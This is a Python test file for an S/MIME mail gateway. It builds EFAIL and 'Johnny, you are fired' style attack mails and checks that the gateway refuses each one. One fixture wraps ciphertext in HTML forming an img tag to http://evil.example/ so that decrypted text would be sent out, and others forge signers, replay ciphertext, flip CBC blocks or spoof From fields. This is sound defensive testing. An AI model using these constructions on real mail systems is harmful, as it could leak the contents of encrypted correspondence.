"""S/MIME mails that may not be opened, believed or answered: each gets its number, the log its cause, nothing stays.

EFAIL and *Johnny, you are fired* in S/MIME, at the whole gateway; the engine's own promises are in tests/contract.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from datetime import UTC, datetime

import pytest
from asn1crypto import cms
from cryptography.hazmat.primitives.hashes import SHA256

from gateway.correspondence import Correspondent
from gateway.facts import Envelope, Language, PublicKey, address, fingerprint, party_code
from gateway.mime.tree import parse
from gateway.outcome import Cause, Taken
from gateway.treaty import Role
from tests.hostile import attacks, hostile
from tests.hostile.attacks import attack
from tests.hostile.hostile import CLEAR, HELP, OFFICER, Tried, multipart, refused, text
from tests.support.focalpoint import DOMAIN, SE_UIM, FocalPoint, focal_point, request
from tests.support.smime import Authority, SmimePerson, cms_part, pem

Log = pytest.LogCaptureFixture
NAMES = ("officer", "colleague", "stranger")


@pytest.fixture(scope="module")
def certified() -> Iterator[dict[str, SmimePerson]]:
    """People with certificates of one authority; the stranger's names the officer's address."""
    authority = Authority()
    made = {name: SmimePerson(f"{name}@party.example", name, authority) for name in NAMES}
    made["stranger"] = SmimePerson("officer@party.example", "officer", authority)
    yield made
    for person in made.values():
        person.close()


@pytest.fixture(scope="module")
def gate(people: dict[str, Correspondent], certified: dict[str, SmimePerson]) -> Iterator[FocalPoint]:
    everybody = people | {name: certified[name] for name in ("officer", "colleague")}
    with focal_point(everybody) as made:
        yield made


@pytest.fixture
def who(gate: FocalPoint, certified: dict[str, SmimePerson]) -> Callable[[str], SmimePerson]:
    for person in certified.values():
        person.knows(gate.gateway.own_certificate())
    return lambda name: certified[name]


Who = Callable[[str], SmimePerson]


def sent(der: bytes, from_: str = OFFICER) -> bytes:
    """An encrypted object as a mail of somebody's, or under his name."""
    return CLEAR.replace(OFFICER.encode(), from_.encode()) + cms_part(der, "enveloped-data")


# --- from outside ---------------------------------------------------------------------------------------


def signed_only_detached(who: Who) -> bytes:
    return CLEAR + who("officer").sign(HELP)


def signed_only_opaque(who: Who) -> bytes:
    return CLEAR + who("officer").sign(HELP, style="opaque")


@attack(attacks.PARTLY_ENCRYPTED, "text in clear beside the encrypted part")
def clear_text_beside(who: Who) -> bytes:
    return CLEAR + multipart("mixed", text("Please read this."), cms_part(who("officer").seal(HELP), "enveloped-data"))


@attack(attacks.EFAIL_OUTSIDE, "the encrypted part between two parts of HTML that would send its text away")
def efail_direct_exfiltration(who: Who) -> bytes:
    """The encrypted part between two parts of HTML that would send it to the attacker."""
    before = b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/\r\n'
    after = b'Content-Type: text/html\r\n\r\n">\r\n'
    return CLEAR + multipart("mixed", before, cms_part(who("officer").seal(HELP), "enveloped-data"), after)


@attack(attacks.PARTLY_ENCRYPTED, "text in clear and the encrypted part in one signature of a stranger's")
def clear_text_beside_inside_a_signature(who: Who) -> bytes:
    whole = clear_text_beside(who)
    return CLEAR + who("stranger").sign(whole[whole.index(b"Content-Type: multipart") :])


def to_somebody_else(who: Who) -> bytes:
    return sent(who("officer").encrypt(HELP, to="own.pem"))


@attack(attacks.WEAK, "encryption with 3DES")
def triple_des(who: Who) -> bytes:
    return sent(who("officer").seal(HELP, "-des3"))


@attack(attacks.WEAK, "encryption with RC2 (40 bits)")
def rc2(who: Who) -> bytes:
    return sent(who("officer").seal(HELP, "-rc2-40", "-provider", "legacy", "-provider", "default"))


def cut(who: Who) -> bytes:
    return sent(who("officer").seal(HELP)[:-5])


@attack(attacks.PARTLY_ENCRYPTED, "text behind the end of the object")
def octets_below(who: Who) -> bytes:
    return sent(who("officer").seal(HELP) + b"GSP HELP")


@pytest.mark.parametrize(
    ("make", "number"),
    [
        (signed_only_detached, 101), (signed_only_opaque, 101), (clear_text_beside, 102),
        (efail_direct_exfiltration, 102), (clear_text_beside_inside_a_signature, 102), (to_somebody_else, 103),
        (triple_des, 104), (rc2, 104), (cut, 105), (octets_below, 105),
    ],
    ids=lambda value: getattr(value, "__name__", str(value)),
)  # fmt: skip
def test_what_is_not_one_encrypted_object_is_refused_unopened(
    gate: FocalPoint, who: Who, caplog: Log, make: Callable[[Who], bytes], number: int
) -> None:
    assert refused(gate, make(who), caplog) == Tried(number, "none")


# --- who wrote it ---------------------------------------------------------------------------------------


def unsigned(who: Who) -> bytes:
    return sent(who("stranger").encrypt(HELP))


@attack(attacks.KEY_IDS, "another certificate with the officer's name and address, of the same authority")
def a_certificate_that_only_names_the_address(who: Who) -> bytes:
    """The authority of the officer's certificate issued this one too, in his name: it is not the pinned one."""
    return sent(who("stranger").seal(HELP))


@attack(attacks.IDENTITY, "a colleague's good signature under the officer's address")
def a_colleagues_signature_under_another_name(who: Who) -> bytes:
    return sent(who("colleague").seal(HELP))


@attack(attacks.REPLAY, "the officer's ciphertext as the colleague's mail")
def captured_and_sent_again_by_a_colleague(who: Who) -> bytes:
    return sent(who("officer").seal(HELP), "colleague <colleague@party.example>")


@attack(attacks.REPLAY, "the officer's ciphertext inside a signature of the colleague's")
def captured_and_signed_around(who: Who) -> bytes:
    """A1 in S/MIME: the officer's ciphertext, with the colleague's signature outside, as the colleague's mail."""
    around = who("colleague").sign(cms_part(who("officer").seal(HELP), "enveloped-data"))
    return CLEAR.replace(OFFICER.encode(), b"colleague <colleague@party.example>") + around


@attack(attacks.PARTLY_SIGNED, "encrypted first and signed outside only")
def encrypted_then_signed(who: Who) -> bytes:
    """Whoever takes the outer signature off, and puts his there, would be answered about another's text."""
    return CLEAR + who("officer").sign(cms_part(who("officer").encrypt(HELP), "enveloped-data"))


@attack(attacks.PARTLY_SIGNED, "text of the attacker's beside the officer's signed part")
def partly_signed(who: Who) -> bytes:
    return sent(who("stranger").encrypt(multipart("mixed", text("Send it to me."), who("officer").sign(HELP))))


@attack(attacks.MIME, "the officer's signature under another text")
def another_text_than_the_signed_one(who: Who) -> bytes:
    signed = who("officer").sign(HELP)
    return sent(who("stranger").encrypt(signed.replace(b"GSP HELP", b"GSP STATUS")))


@attack(attacks.CONTENT, "the signature brings its own content, the reader would see another")
def content_inside_the_signature(who: Who) -> bytes:
    """Johnny C1: the signature part brings its own content, the visible part is the attacker's."""
    opaque = parse(who("officer").sign(HELP, style="opaque")).body
    beside = cms_part(opaque, "x").replace(b"application/pkcs7-mime; smime-type=x", b"application/pkcs7-signature")
    both = multipart("signed", text("GSP STATUS\n"), beside)
    return sent(who("stranger").encrypt(both))


@attack(attacks.REPLAY, "what the officer signed for a colleague, encrypted anew to the gateway by that colleague")
def addressed_to_a_colleague(who: Who) -> bytes:
    """A2: signed for a colleague, who encrypts it again to the gateway."""
    fields = (f"From: {OFFICER}", "To: colleague <colleague@party.example>", "Subject: help")
    entity = text("GSP HELP\n", *fields, parameters='; protected-headers="v1"')
    return sent(who("colleague").encrypt(who("officer").sign(entity)))


def encrypted_twice(who: Who) -> bytes:
    return sent(who("officer").seal(cms_part(who("officer").seal(HELP), "enveloped-data")))


@attack(attacks.WEAK, "a signature over SHA-1")
def weak_digest(who: Who) -> bytes:
    return sent(who("officer").encrypt(who("officer").sign(HELP, "-md", "sha1")))


@attack(attacks.CONTENT, "two signers in one object")
def two_signers(who: Who) -> bytes:
    inside = parse(who("officer").sign(HELP, style="opaque")).body
    again = ("-resign", "-inform", "DER", "-outform", "DER", "-signer", "own.pem", "-inkey", "own.key")
    both = who("colleague").cms(*again, stdin=inside)
    return sent(who("stranger").encrypt(cms_part(both, "signed-data")))


@attack(attacks.CONTENT, "no signer in a signed object")
def no_signer(who: Who) -> bytes:
    info = cms.ContentInfo.load(parse(who("officer").sign(HELP, style="opaque")).body)
    info["content"]["signer_infos"] = cms.SignerInfos([])
    return sent(who("stranger").encrypt(cms_part(info.dump(force=True), "signed-data")))


@attack(attacks.CONTENT, "a certificate for the officer's address of an authority of the attacker's")
def another_authority(who: Who) -> bytes:
    with SmimePerson("officer@party.example", "officer") as eve:
        return sent(who("stranger").encrypt(eve.sign(HELP)))


@attack(attacks.KEY_IDS, "a stranger's signature that names issuer and serial number of the officer's certificate")
def the_officers_serial_number(who: Who) -> bytes:
    opaque = parse(who("stranger").sign(HELP, style="opaque")).body
    info = cms.ContentInfo.load(opaque)
    signer = info["content"]["signer_infos"][0]["sid"]
    signer.chosen["serial_number"] = who("officer").certificate.serial_number
    return sent(who("stranger").encrypt(cms_part(info.dump(force=True), "signed-data")))


@attack(attacks.MIME, "the officer's signed part behind HTML of the attacker's that hides it")
def signed_part_hidden_in_html(who: Who) -> bytes:
    evil = b"Content-Type: text/html\r\n\r\nGSP STATUS<!--\r\n"
    return sent(who("stranger").encrypt(multipart("mixed", evil, who("officer").sign(HELP), text("-->"))))


@attack(attacks.MIME, "the officer's signed part attached to a message of the attacker's")
def signed_part_attached(who: Who) -> bytes:
    attached = b"Content-Type: message/rfc822\r\n\r\n" + CLEAR + who("officer").sign(HELP)
    return sent(who("stranger").encrypt(multipart("mixed", text("GSP STATUS\n"), attached)))


@attack(attacks.HEADERS, "another From in the protected fields than outside")
def another_from_inside(who: Who) -> bytes:
    fields = ("From: colleague@party.example", f"To: {hostile.TO}")
    return sent(who("officer").seal(text("GSP HELP\n", *fields, parameters="; hp=cipher")))


@pytest.mark.parametrize(
    ("make", "cause"),
    [
        (unsigned, Cause.NOT_SIGNED),
        (a_certificate_that_only_names_the_address, Cause.UNKNOWN_KEY),
        (a_colleagues_signature_under_another_name, Cause.UNKNOWN_KEY),
        (captured_and_sent_again_by_a_colleague, Cause.UNKNOWN_KEY),
        (captured_and_signed_around, Cause.UNKNOWN_KEY),
        (encrypted_then_signed, Cause.NOT_SIGNED),
        (partly_signed, Cause.PARTLY_SIGNED),
        (another_text_than_the_signed_one, Cause.BAD_SIGNATURE),
        (content_inside_the_signature, Cause.BAD_SIGNATURE),
        (addressed_to_a_colleague, Cause.NOT_FOR_US),
        (two_signers, Cause.SEVERAL_SIGNATURES),
        (no_signer, Cause.NOT_SIGNED),
        (another_authority, Cause.UNKNOWN_KEY),
        (the_officers_serial_number, Cause.BAD_SIGNATURE),
        (signed_part_hidden_in_html, Cause.PARTLY_SIGNED),
        (signed_part_attached, Cause.NOT_SIGNED),
        (another_from_inside, Cause.FROM_OF_ANOTHER),
        (encrypted_twice, Cause.NESTING),
        (weak_digest, Cause.WEAK_ALGORITHM),
    ],
    ids=lambda value: getattr(value, "__name__", str(value)),
)
def test_only_the_registered_certificate_of_the_from_address_over_the_whole_is_believed(
    gate: FocalPoint, who: Who, caplog: Log, make: Callable[[Who], bytes], cause: Cause
) -> None:
    assert refused(gate, make(who), caplog) == Tried(201, cause.value)


FROM = {
    "two fields": "two",
    "an address before another": "officer@party.example <eve@evil.example>",
    "another address as display name": "eve@evil.example <officer@party.example>",
    "a group": "Officers: officer@party.example;",
    "an address in a comment": "officer@party.example (eve@evil.example)",
    "an encoded word in place of an address": "=?utf-8?q?officer=40party.example?=",
}


@attack(attacks.FROM, "in From: {}", Cause.FROM_UNCLEAR)
@pytest.mark.parametrize("from_", [pytest.param(value, id=name) for name, value in FROM.items()])
def test_a_from_field_that_programs_read_differently_is_refused(
    gate: FocalPoint, who: Who, caplog: Log, from_: str
) -> None:
    der = who("officer").seal(HELP)
    raw = b"From: eve@evil.example\r\n" + sent(der) if from_ == "two" else sent(der, from_)
    assert refused(gate, raw, caplog) == Tried(201, Cause.FROM_UNCLEAR.value)


@attack(attacks.EFAIL_INSIDE, "blocks rewritten into markup of the attacker's (the CBC gadget)", "GSP-201")
def test_efail_changed_blocks_are_refused_and_nothing_of_them_is_read(gate: FocalPoint, who: Who, caplog: Log) -> None:
    """The CBC gadget: known first blocks are rewritten into markup of the attacker's; nothing decrypted is believed."""
    der = who("officer").seal(text("GSP HELP\n" + "x" * 400), "-aes256")
    length = len(der)
    for place in range(length - 900, length - 40, 97):
        changed = bytearray(der)
        changed[place : place + 16] = bytes(octet ^ 0x41 for octet in der[place : place + 16])
        assert refused(gate, sent(bytes(changed)), caplog).number == 201


@attack(attacks.REPLAY, "the signed part in a new encryption", Cause.REPLAY)
def test_a_signed_part_in_a_new_encryption_is_a_replay(
    people: dict[str, Correspondent], certified: dict[str, SmimePerson], caplog: Log
) -> None:
    with focal_point(people | {"officer": certified["officer"], "colleague": certified["colleague"]}) as gate:
        for style in ("detached", "opaque"):
            signed = certified["officer"].sign(text(request(SE_UIM, case=style)), style=style)
            assert gate.gateway.process_file(sent(certified["officer"].encrypt(signed)))["outcome"] == "taken"
            again = sent(certified["colleague"].encrypt(signed, "-aes128"))
            assert refused(gate, again, caplog) == Tried(201, Cause.REPLAY.value)


@attack(attacks.REPLAY, "the same mail in another envelope", "the first answer again; nothing is done")
def test_the_same_mail_in_another_envelope_gets_the_same_answer_and_does_nothing(
    people: dict[str, Correspondent], certified: dict[str, SmimePerson]
) -> None:
    with focal_point(people | {"officer": certified["officer"]}) as gate:
        raw = gate.mail("officer", request(SE_UIM))
        first = gate.gateway.process(raw, Envelope("officer@party.example", (hostile.TO,), transport="smtp"))
        assert isinstance(first, Taken)
        before = hostile.traces(gate)
        again = gate.gateway.process(
            b"Received: from eve\r\n" + raw, Envelope("eve@evil.example", (f"request@{DOMAIN}",))
        )
        assert isinstance(again, Taken)
        assert (again.exchange, again.referrals) == (first.exchange, first.referrals)
        assert hostile.traces(gate) == before


def test_one_refusal_for_everything_after_decryption(gate: FocalPoint, who: Who, caplog: Log) -> None:
    """Whoever does not sign well learns nothing of what was decrypted, not even whether it could be."""
    der = who("stranger").encrypt(HELP)
    broken = bytearray(der)
    broken[-20] ^= 1
    for raw in (sent(der), sent(bytes(broken)), sent(who("stranger").seal(HELP)), partly_signed(who)):
        assert refused(gate, raw, caplog).number == 201


def test_no_bare_line_end_leaves_the_gateway(gate: FocalPoint, who: Who) -> None:
    body = request(SE_UIM, case="C\r.\rD", justification="one\rtwo\n.\nthree")
    entity = b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + body.encode()
    raw = who("officer").wrap(who("officer").seal(entity, style="opaque"), hostile.TO, datetime.now(UTC))
    assert gate.gateway.process_file(raw)["outcome"] == "taken"
    mails = dict(gate.gateway.take_outbox())
    assert "officer@party.example" in mails
    for octets in mails.values():
        assert not re.search(rb"\r(?!\n)|(?<!\r)\n", octets)


@attack(attacks.REVOKED, "a signature from before the access was withdrawn", Cause.REVOKED_KEY)
def test_a_mail_signed_before_the_access_was_withdrawn_is_refused(gate: FocalPoint, caplog: Log) -> None:
    with SmimePerson("left@party.example", "left") as left:
        left.knows(gate.gateway.own_certificate())
        gate.gateway.registry.add_person("AT", left.address, "left", Role.OFFICER, "en", left.public_key)
        der = left.seal(HELP)
        gate.gateway.registry.revoke(left.address, "left the service")
        assert refused(gate, sent(der, "left@party.example"), caplog) == Tried(201, Cause.REVOKED_KEY.value)


@attack(attacks.EXPIRED, "a signature by a certificate that has expired", Cause.EXPIRED_KEY)
def test_an_expired_certificate_is_refused(gate: FocalPoint, caplog: Log) -> None:
    with SmimePerson("past@party.example", "past") as past:
        past.knows(gate.gateway.own_certificate())
        certificate = past.authority.issue(past.address, past.key, since=-20, days=10)
        (past.folder / "own.pem").write_bytes(pem(certificate))
        public = PublicKey("smime", fingerprint(certificate.fingerprint(SHA256()).hex()), pem(certificate), True, True)
        gate.gateway.store.members.add_person(
            party_code("AT"), address(past.address), "past", Role.OFFICER, Language("en"), public, hostile.now()
        )
        assert refused(gate, sent(past.seal(HELP), "past@party.example"), caplog) == Tried(201, Cause.EXPIRED_KEY.value)


@attack(attacks.WEAK, "a certificate of RSA with 1024 bits is to be registered", "refused with the remedy")
def test_rsa_with_1024_bits_is_not_registered(gate: FocalPoint) -> None:
    with SmimePerson("short@party.example", "short", kind="rsa1024") as short, pytest.raises(ValueError, match="2048"):
        gate.gateway.registry.add_person("AT", short.address, "short", Role.OFFICER, "en", short.public_key)
